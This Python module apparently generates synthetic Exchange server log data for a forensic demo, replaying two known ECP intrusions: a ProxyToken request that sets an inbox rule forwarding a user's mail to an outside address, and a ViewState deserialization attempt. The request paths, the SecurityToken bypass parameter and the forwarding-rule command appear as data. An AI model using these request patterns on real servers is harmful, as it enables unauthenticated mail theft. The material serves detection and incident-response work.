"""Ways in through ECP without a page: ProxyToken's mail rule, forged view state."""

from __future__ import annotations

from afterpatch.demo.ledger import Ledger
from afterpatch.demo.rows import Hit, Relay
from afterpatch.demo.scenes.moments import after, utc
from afterpatch.demo.traffic import facts

INTRUDER = "203.0.113.77"


def proxytoken(ledgers: tuple[Ledger, ...]) -> None:
    """August 2021: a rule that forwards a stranger's mail, set without signing in."""
    (ledger,) = ledgers
    box, agent = "user04@example.com", facts()["agents"]["browser"][1]
    stem, start = f"/ecp/{box}/RulesEditor/InboxRules.svc/NewObject", utc("2021-09-02 11:41:03.150")
    for number, (query, status) in enumerate((("", 500), ("msExchEcpCanary=[removed]&SecurityToken=x", 200))):
        moment = after(start, 5.2 * number)
        relay = Relay(stem, query, "", agent, status)
        hit = Hit(
            moment, INTRUDER, "POST", stem, query=query, status=status, agent=agent, protocol="Ecp",
            target=ledger.server.fqdn.upper(), bytes_in=640, bytes_out=900, taken=120, relay=relay,
        )  # fmt: skip
        ledger.hit(hit)
    command = f"New-InboxRule.ForwardTo='drop@example.net'.Mailbox='{box}'.Name='.'.StopProcessingRules=$true"
    url = f"{stem}?msExchEcpCanary=[removed]&SecurityToken=x"
    ledger.add([ledger.scribe.ecp(after(start, 5.1), command, url)])
    ledger.verdict = "compromised"
    ledger.chain("proxytoken", "succeeded", (INTRUDER,), start, after(start, 5.2))
    ledger.actor("forwarder", (INTRUDER,), (agent,))
    ledger.mailboxes.append(box)


def viewstate(ledgers: tuple[Ledger, ...]) -> None:
    """March 2020: view state sent in the address by a signed-in user; the logs cannot say whether it ran."""
    (ledger,) = ledgers
    agent, start = facts()["agents"]["browser"][0], utc("2020-03-09 22:17:45.600")
    for number in range(3):
        query = "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=[removed]"
        relay = Relay("/ecp/default.aspx", query, "EXAMPLE\\user06", agent, 500)
        hit = Hit(
            after(start, 11.5 * number), INTRUDER, "GET", "/ecp/default.aspx", query=query, status=500, agent=agent,
            user="EXAMPLE\\user06", protocol="Ecp", target=ledger.server.fqdn.upper(), bytes_out=4200, taken=260,
            relay=relay,
        )  # fmt: skip
        ledger.hit(hit)
    ledger.verdict = "attempted"
    ledger.chain("viewstate", "attempted", (INTRUDER,), start, after(start, 23))
    ledger.actor("intruder", (INTRUDER,), (agent,))
